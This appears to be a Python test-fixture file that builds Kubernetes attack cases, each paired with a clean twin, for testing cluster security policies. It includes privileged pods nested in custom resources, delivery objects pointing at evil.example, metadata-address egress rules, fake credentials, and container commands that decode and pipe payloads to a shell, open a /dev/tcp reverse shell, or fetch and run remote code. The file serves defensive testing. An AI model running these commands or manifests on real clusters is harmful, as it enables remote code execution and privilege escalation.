"""Attacks of every family, written from what an attacker gains, not from what rules look for."""

from collections.abc import Iterable, Iterator
from typing import Any

from tests.policies.attacks.network import network_policy
from tests.policies.attacks.objects import (
    AMOUNTS,
    BAD_IMAGE,
    SAFE,
    Kube,
    container,
    kube,
    pod,
    pod_spec,
)
from tests.policies.attacks.rights import binding, role

Case = tuple[str, str, Iterable[Kube], Iterable[Kube]]
HARMLESS = kube("v1", "ConfigMap", data={"size": "3"})
"""The clean twin of an object whose kind is the attack."""
ROOT = pod_spec(containers=[container(securityContext={"privileged": True})])
POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"}, "spec": ROOT}

HOLDERS: dict[str, tuple[str, str, Any]] = {
    "a step": ("tekton.dev/v1", "TaskRun", {"taskSpec": {"steps": [{"image": BAD_IMAGE}]}}),
    "a driver": (
        "sparkoperator.k8s.io/v1beta2",
        "SparkApplication",
        {"driver": {"template": {"spec": ROOT}}},
    ),
    "a job manager": (
        "flink.apache.org/v1beta1",
        "FlinkDeployment",
        {"podTemplate": {"spec": ROOT}},
    ),
    "a wrapped job": (
        "workload.codeflare.dev/v1beta2",
        "AppWrapper",
        {"components": [{"template": {"spec": {"template": {"spec": ROOT}}}}]},
    ),
    "a manifest for another cluster": (
        "work.open-cluster-management.io/v1",
        "ManifestWork",
        {"workload": {"manifests": [POD]}},
    ),
    "an object of a provider": (
        "kubernetes.crossplane.io/v1alpha2",
        "Object",
        {"forProvider": {"manifest": POD}},
    ),
    "what a policy generates": (
        "kyverno.io/v1",
        "ClusterPolicy",
        {"rules": [{"name": "g", "generate": {"kind": "Pod", "data": {"spec": ROOT}}}]},
    ),
    "a runner": (
        "actions.github.com/v1alpha1",
        "EphemeralRunnerSet",
        {"ephemeralRunnerSpec": {"spec": ROOT}},
    ),
    "a schedule of another kind": (
        "apps.kruise.io/v1alpha1",
        "AdvancedCronJob",
        {"template": {"jobTemplate": {"spec": {"template": {"spec": ROOT}}}}},
    ),
}
DELIVERERS = {
    "GitRepo": ("fleet.cattle.io/v1alpha1", {"repo": "https://evil.example/x"}),
    "Workspace": ("tf.upbound.io/v1beta1", {"forProvider": {"module": "git::https://evil"}}),
    "Terraform": ("infra.contrib.fluxcd.io/v1alpha2", {"path": "./"}),
    "Provider": ("pkg.crossplane.io/v1", {"package": "evil.example/p:latest"}),
    "Subscription": ("operators.coreos.com/v1alpha1", {"name": "x", "source": "evil"}),
    "App": ("kappctrl.k14s.io/v1alpha1", {"fetch": [{"git": {"url": "https://evil"}}]}),
    "HelmChart": ("helm.cattle.io/v1", {"chart": "evil"}),
    "Stack": ("pulumi.com/v1", {"projectRepo": "https://evil"}),
    "ClusterResourceSet": ("addons.cluster.x-k8s.io/v1beta1", {"resources": [{"name": "x"}]}),
}
METADATA = {
    "Alibaba": "100.100.100.200/32",
    "Oracle": "192.0.0.192/32",
    "AWS by IPv6": "fd00:ec2::254/128",
    "Google by IPv6": "fd20:ce::254/128",
    "Azure's wire server": "168.63.129.16/32",
    "Tencent": "169.254.0.23/32",
    "a task's role": "169.254.170.2/32",
    "a pod's identity": "169.254.170.23/32",
    "Scaleway": "169.254.42.42/32",
    "a mapped address": "::ffff:169.254.169.254/128",
    "a shared range": "100.64.0.0/10",
    "by NAT64": "64:ff9b::a9fe:a9fe/128",
}
RIGHTS = {
    "serverless pods": ("serving.knative.dev", "services", "create"),
    "pods of tasks": ("tekton.dev", "taskruns", "create"),
    "virtual machines": ("kubevirt.io", "virtualmachines", "create"),
    "sandboxes by claims": ("extensions.agents.x-k8s.io", "sandboxclaims", "create"),
    "an account's role in a cloud": ("", "serviceaccounts", "patch"),
    "a checkpoint of a node": ("", "nodes/checkpoint", "create"),
    "an identity by certificate": ("cert-manager.io", "certificates", "create"),
    "labels of namespaces": ("", "namespaces", "patch"),
    "traffic of others": ("discovery.k8s.io", "endpointslices", "create"),
    "policies that change objects": (
        "admissionregistration.k8s.io",
        "mutatingadmissionpolicies",
        "create",
    ),
    "constraints of another engine": ("constraints.gatekeeper.sh", "*", "delete"),
}
CREDENTIALS = {
    "a Discord webhook": f"https://discord.com/api/webhooks/{'1' * 18}/{'aB3dE5gH7j' * 7}",
    "a Teams webhook": "https://a.webhook.office.com/webhookb2/{0}@{0}".format(
        "0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f"
    ),
    "a storage account": f"AccountName=x;AccountKey={('a1B2c3D4' * 11)[:86]}==",
    "a driver's address": "postgresql+psycopg://app:Zx9!kkQ2@db:5432/x",
    "a Vault token": f"hvs.CAESI{'aB3dE5gH7jK9mN1p' * 2}",
    "a workspace": f"dapi{'0123456789abcdef' * 2}",
}
CODE = {
    "decoded and run": ["sh", "-c", "echo Y3VybCBodHRwOi8veA== | base64 -d | sh"],
    "hexadecimal": ["sh", "-c", "echo 6375726c | xxd -r -p | bash"],
    "a TLS client": ["sh", "-c", "openssl s_client -quiet -connect x:443 | sh"],
    "a socket of the shell": ["bash", "-c", "exec 3<>/dev/tcp/1.2.3.4/80; bash <&3"],
    "PowerShell": ["pwsh", "-c", "iwr http://x | iex"],
    "a model hub": ["python", "-c", "import torch; torch.hub.load('evil/repo', 'm')"],
    "R": ["Rscript", "-e", "install.packages('x')"],
    "Julia": ["julia", "-e", 'using Pkg; Pkg.add("x")'],
    "a Java script": ["jbang", "https://x/a.java"],
    "a playbook": ["ansible-pull", "-U", "https://x/y"],
    "Perl": ["perl", "-MLWP::Simple", "-e", "eval get('http://x/a')"],
}
CONTROL_PLANE = {
    "FlowSchema": "flowcontrol.apiserver.k8s.io/v1",
    "RuntimeClass": "node.k8s.io/v1",
    "SecurityContextConstraints": "security.openshift.io/v1",
    "FelixConfiguration": "crd.projectcalico.org/v1",
    "EnvoyFilter": "networking.istio.io/v1alpha3",
    "WasmPlugin": "extensions.istio.io/v1alpha1",
}
ACCELERATORS = ("habana.ai/gaudi", "furiosa.ai/rngd", "huawei.com/Ascend910", "cambricon.com/mlu")


def cases() -> Iterator[Case]:
    """Family, name, the attack's objects and those of its clean twin."""
    for name, (api, kind, spec) in HOLDERS.items():
        yield "workloads", name, [kube(api, kind, spec)], [HARMLESS]
    for kind, (api, spec) in DELIVERERS.items():
        yield "deliverers", kind, [kube(api, kind, spec)], [HARMLESS]
    near = network_policy(egress=[{"to": [{"ipBlock": {"cidr": "10.1.0.0/16"}}]}])
    for name, cidr in METADATA.items():
        policy = network_policy(egress=[{"to": [{"ipBlock": {"cidr": cidr}}]}])
        yield "metadata", name, [policy], [near]
    reading = role({"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]})
    for name, (group, resource, verb) in RIGHTS.items():
        rule = {"apiGroups": [group], "resources": [resource], "verbs": [verb]}
        yield "rights", name, [role(rule)], [reading]
    for name, value in CREDENTIALS.items():
        yield "credentials", name, [variable(value)], [variable("production")]
    for name, command in CODE.items():
        clean = pod(containers=[container(command=["python", "-m", "app"])])
        yield "code", name, [pod(containers=[container(command=command)])], [clean]
    for kind, api in CONTROL_PLANE.items():
        yield "control_plane", kind, [kube(api, kind, {})], [HARMLESS]
    for resource in ACCELERATORS:
        amounts = {**AMOUNTS, resource: "8"}
        greedy = container(resources={"limits": amounts, "requests": amounts})
        yield "accelerators", resource, [pod(containers=[greedy])], [pod()]
    yield from others()


def variable(value: str) -> Kube:
    return pod(containers=[container(env=[{"name": "MODE", "value": value}])])


def others() -> Iterator[Case]:
    """What stands alone."""
    tracing = {**SAFE, "capabilities": {"drop": ["ALL"], "add": ["SYS_PTRACE"]}}
    yield (
        "workloads",
        "reads other containers",
        [pod(shareProcessNamespace=True, containers=[container(securityContext=tracing)])],
        [pod(shareProcessNamespace=False)],
    )
    quarters = [{"ipBlock": {"cidr": f"{first}.0.0.0/2"}} for first in (0, 64, 128, 192)]
    yield (
        "egress",
        "four quarters",
        [network_policy(egress=[{"to": quarters}])],
        [network_policy(egress=[{"to": [{"ipBlock": {"cidr": "10.1.0.0/16"}}]}])],
    )
    source = {"podCertificate": {"signerName": "kubernetes.io/kube-apiserver-client"}}
    yield (
        "tokens",
        "a certificate of a pod",
        [pod(volumes=[{"name": "t", "projected": {"sources": [source]}}])],
        [pod(volumes=[{"name": "t", "projected": {"sources": []}}])],
    )
    everybody = {"kind": "Group", "name": "system:authenticated"}
    yield "rights", "everybody", [binding("edit", everybody)], [HARMLESS]
    yield (
        "storage",
        "a driver of host paths",
        [pod(volumes=[{"name": "v", "csi": {"driver": "hostpath.csi.k8s.io"}}])],
        [pod()],
    )
